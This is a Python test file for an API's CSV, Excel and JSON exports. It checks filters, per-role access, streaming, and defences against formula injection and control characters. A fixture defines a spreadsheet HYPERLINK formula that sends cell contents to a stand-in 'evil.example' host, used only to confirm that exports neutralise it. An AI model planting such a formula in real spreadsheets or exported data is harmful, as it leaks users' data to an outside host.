"""Exports: CSV, Excel and JSON contents, filters, who sees what, formula-injection safety."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from models import Category, Indicator, Initiative, Period
from models.core.formulas import neutralise
from models.spreadsheets.exports import EXPORT_COLUMNS, csv_chunks

from .. import factories as f
from ..conftest import BACKENDS
from .conftest import build_world, headers_by_role

BASE = "/api/v1/initiatives/c2c"
EXPORT = f"{BASE}/export"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def add_values(session: Session, built: dict) -> None:
    """Eastside: a rate with its breakdown, a count, an average with a dangerous note and a
    negative amount in 2025Q3; a count in 2025Q2. Westside: a count in 2025Q3."""
    init = built["init"]
    ready_outcome = f.outcome(session, init, code="READY", name="Kindergarten readiness")
    codes = {i.code: i for i in session.scalars(select(Indicator))}
    codes["K_READY"].outcome_id = ready_outcome.id
    funds = f.indicator(session, init, "amount", code="FUNDS", unit="USD")
    f.obligation(session, built["east"], funds)
    periods = {p.key: p for p in session.scalars(select(Period))}
    black, white = session.scalars(select(Category).order_by(Category.position)).all()
    east_q3 = f.submission(session, built["east"], periods["2025Q3"], status="submitted")
    ready = codes["K_READY"]
    f.reported_value(session, east_q3, ready, value=50, numerator=45, denominator=90)
    f.reported_value(session, east_q3, ready, black, value=40, numerator=20, denominator=50)
    f.reported_value(session, east_q3, ready, white, value=62.5, numerator=25, denominator=40)
    f.reported_value(session, east_q3, codes["SERVED"], value=120).flags = ["jump"]
    f.reported_value(session, east_q3, codes["SCORE"], value=231.5, denominator=88, note=HYPERLINK)
    f.reported_value(session, east_q3, funds, value=-500, note="-5 was a typo")
    east_q2 = f.submission(session, built["east"], periods["2025Q2"], status="approved")
    f.reported_value(session, east_q2, codes["SERVED"], value=100)
    west_q3 = f.submission(session, built["west"], periods["2025Q3"])
    f.reported_value(session, west_q3, codes["SERVED"], value=7)


@pytest.fixture
def world(session, client):
    """The area's world (conftest) with the values above, its users logged in."""
    built = build_world(session)
    add_values(session, built)
    return headers_by_role(session, client, built)


def _csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.text
    assert response.content.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def _export(client, headers, **params):
    return client.get(EXPORT, params=params, headers=headers)


def test_csv_export_has_one_row_per_value(client, world) -> None:
    r = _export(client, world["backbone"])
    assert r.headers["content-type"] == "text/csv; charset=utf-8"
    assert r.headers["content-disposition"].startswith('attachment; filename="c2c-values-')
    assert r.headers["content-disposition"].endswith('.csv"')
    rows = _csv_rows(r)
    assert list(rows[0]) == list(EXPORT_COLUMNS)
    assert [
        (r["period"], r["organisation"], r["indicator"], r["disaggregation"]) for r in rows
    ] == [
        ("2025Q2", "eastside", "SERVED", "total"),
        ("2025Q3", "eastside", "FUNDS", "total"),
        ("2025Q3", "eastside", "K_READY", "total"),
        ("2025Q3", "eastside", "K_READY", "race=black"),
        ("2025Q3", "eastside", "K_READY", "race=white"),
        ("2025Q3", "eastside", "SCORE", "total"),
        ("2025Q3", "eastside", "SERVED", "total"),
        ("2025Q3", "westside", "SERVED", "total"),
    ]
    by_key = {
        (r["period"], r["organisation"], r["indicator"], r["disaggregation"]): r for r in rows
    }
    ready = by_key["2025Q3", "eastside", "K_READY", "total"]
    assert ready["outcome"] == "READY"
    assert (ready["value"], ready["numerator"], ready["denominator"]) == ("50", "45", "90")
    assert ready["status"] == "submitted"
    assert by_key["2025Q3", "eastside", "K_READY", "race=white"]["value"] == "62.5"
    assert by_key["2025Q3", "eastside", "SERVED", "total"]["flags"] == "jump"
    assert by_key["2025Q2", "eastside", "SERVED", "total"]["status"] == "approved"
    # Formula injection: text is neutralised, a negative amount stays a plain number.
    score = by_key["2025Q3", "eastside", "SCORE", "total"]
    assert score["note"] == "'" + HYPERLINK
    funds = by_key["2025Q3", "eastside", "FUNDS", "total"]
    assert funds["value"] == "-500"
    assert funds["note"] == "'-5 was a typo"
    assert ",-500," in r.content.decode("utf-8-sig")  # unquoted, so spreadsheets read a number


def test_xlsx_export_keeps_numbers_and_neutralises_text(client, world) -> None:
    r = _export(client, world["backbone"], format="xlsx")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    assert r.headers["content-disposition"].endswith('.xlsx"')
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    sheet = book["Values"]
    assert [c.value for c in sheet[1]] == list(EXPORT_COLUMNS)
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"
    rows = [
        dict(zip(EXPORT_COLUMNS, row, strict=True))
        for row in sheet.iter_rows(min_row=2, values_only=True)
    ]
    assert len(rows) == 8
    funds = next(row for row in rows if row["indicator"] == "FUNDS")
    assert funds["value"] == -500 and isinstance(funds["value"], int | float)
    assert funds["note"] == "'-5 was a typo"
    score = next(row for row in rows if row["indicator"] == "SCORE")
    assert score["note"] == "'" + HYPERLINK
    assert score["denominator"] == 88
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_json_export(client, world) -> None:
    r = _export(client, world["backbone"], format="json", indicator="SERVED")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/json"
    body = json.loads(r.content)
    assert body["initiative"] == "c2c"
    assert body["filters"] == {"indicator": "SERVED"}
    assert body["columns"] == list(EXPORT_COLUMNS)
    assert body["count"] == 3 == len(body["rows"])
    assert body["rows"][0] == {
        "organisation": "eastside",
        "period": "2025Q2",
        "outcome": None,
        "indicator": "SERVED",
        "disaggregation": "total",
        "value": 100.0,
        "numerator": None,
        "denominator": None,
        "note": None,
        "flags": [],
        "status": "approved",
    }
    assert body["rows"][1]["flags"] == ["jump"]
    everything = json.loads(_export(client, world["backbone"], format="json").content)
    score = next(row for row in everything["rows"] if row["indicator"] == "SCORE")
    assert score["note"] == HYPERLINK  # JSON is data, not a spreadsheet: the text as stored


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"period_from": "2025Q3"}, 7),
        ({"period_to": "2025Q2"}, 1),
        ({"period_from": "2025Q2", "period_to": "2025Q2"}, 1),
        ({"outcome": "READY"}, 3),
        ({"indicator": "K_READY"}, 3),
        ({"org": "westside"}, 1),
        ({"status": "draft"}, 1),
        ({"status": "submitted", "indicator": "SERVED"}, 1),
        ({"org": "nobody"}, 0),
    ],
)
def test_filters(client, world, params, expected) -> None:
    assert len(_csv_rows(_export(client, world["backbone"], **params))) == expected


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"period_from": "1999Q1"}, "period_from"),
        ({"period_to": "nope"}, "period_to"),
        ({"outcome": "NOPE"}, "outcome"),
        ({"indicator": "NOPE"}, "indicator"),
        ({"status": "lost"}, "status"),
        ({"format": "pdf"}, "query.format"),  # FastAPI names query fields so
    ],
)
def test_bad_filters_answer_422_with_the_field(client, world, params, field) -> None:
    r = _export(client, world["backbone"], **params)
    assert r.status_code == 422
    assert r.json()["field"] == field


def test_reporters_export_only_their_rows(client, world) -> None:
    mine = _csv_rows(_export(client, world["reporter"]))
    assert len(mine) == 7 and {r["organisation"] for r in mine} == {"eastside"}
    theirs = _csv_rows(_export(client, world["other"]))
    assert [(r["organisation"], r["value"]) for r in theirs] == [("westside", "7")]
    assert _csv_rows(_export(client, world["other"], org="eastside")) == []
    body = json.loads(_export(client, world["other"], format="json").content)
    assert [row["organisation"] for row in body["rows"]] == ["westside"]


def test_anonymous_401_funders_403_and_others_404(client, world) -> None:
    r = _export(client, {})
    assert r.status_code == 401 and r.json()["code"] != ""
    assert _export(client, world["outsider"]).status_code == 404
    refused = _export(client, world["funder"])
    assert refused.status_code == 403 and "published data package" in refused.json()["detail"]
    assert (
        client.get("/api/v1/initiatives/nope/export", headers=world["backbone"]).status_code == 404
    )


def test_neutralise() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("fine") == "fine" and neutralise("") == "" and neutralise(None) is None


def test_csv_streams_in_chunks() -> None:
    class Rows:
        count = 0

        def rows(self):
            for n in range(4_500):
                yield ("org", "2025Q3", None, "X", "total", -n, None, None, None, [], "draft")

    chunks = list(csv_chunks(Rows()))  # type: ignore[arg-type]
    assert len(chunks) == 4  # header, two batches of 2000, the rest
    text = "".join(chunks)
    assert text.count("\r\n") == 4_501
    assert "org,2025Q3,,X,total,-4499,,,,,draft" in text


# --- the command line -----------------------------------------------------------------------


@pytest.mark.parametrize("fresh_database", BACKENDS, indirect=True)
def test_cm_export(cm, fresh_database, tmp_path) -> None:
    assert cm("db", "upgrade").exit_code == 0
    with Session(fresh_database.engine) as session:
        add_values(session, build_world(session))
        session.commit()
    out = tmp_path / "values.csv"
    result = cm("export", "--initiative", "c2c", "--format", "csv", "--output", out)
    assert result.exit_code == 0, result.output
    assert "wrote 8 values" in result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert len(rows) == 8
    assert next(r for r in rows if r["indicator"] == "SCORE")["note"] == "'" + HYPERLINK

    book = tmp_path / "values.xlsx"
    result = cm(
        "export", "--initiative", "c2c", "--format", "xlsx", "--output", book, "--org", "westside"
    )
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(book)["Values"]
    assert sheet.max_row == 2 and sheet["A2"].value == "westside"

    data = tmp_path / "values.json"
    assert cm("export", "--initiative", "c2c", "--format", "json", "--output", data).exit_code == 0
    assert json.loads(data.read_text())["count"] == 8
    bad = cm("export", "--initiative", "c2c", "--output", out, "--indicator", "NOPE")
    assert bad.exit_code == 2 and "no indicator 'NOPE'" in bad.output


def test_a_streamed_export_ends_the_transaction_it_opened(session, world) -> None:
    """A streamed answer reads after the request's session has ended: the transaction the
    stream opens must end with it — read to the end or abandoned by the client — or its
    connection stays "idle in transaction", holding locks that block schema changes."""
    from models.core.actors import Actor
    from models.spreadsheets.exports import prepare_export

    init_id = session.scalar(select(Initiative.id).where(Initiative.slug == "c2c"))
    actor = Actor(label="test", backbone_of=frozenset({init_id}))
    for read in (list, lambda rows: next(rows)):
        export = prepare_export(session=session, actor=actor, initiative_slug="c2c")
        session.commit()  # what the request does before the stream starts
        rows = export.rows()
        read(rows)
        rows.close()  # what the server does when the client goes away
        assert not session.in_transaction()
    # Inside a request (the Excel file is written before answering) the session stays open.
    export = prepare_export(session=session, actor=actor, initiative_slug="c2c")
    list(export.rows())
    assert session.in_transaction()


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
@pytest.mark.parametrize(
    "field", ["org", "outcome", "indicator", "period_from", "period_to", "status", "slug"]
)
def test_a_nul_in_a_filter_or_slug_answers_422_before_the_stream_starts(
    client, world, fmt, field
) -> None:
    """On PostgreSQL ``org=%00`` sent 200 headers, then failed in the stream: a cut connection."""
    path, params = EXPORT, {"format": fmt}
    if field == "slug":
        path = "/api/v1/initiatives/c2c%00/export"
    else:
        params[field] = "\x00" if field != "outcome" else "READY\x1f"
    r = client.get(path, params=params, headers=world["backbone"])
    assert r.status_code == 422, r.text
    assert r.headers["content-type"] == "application/json"
    assert r.json()["field"] == field and "control character" in r.json()["detail"]
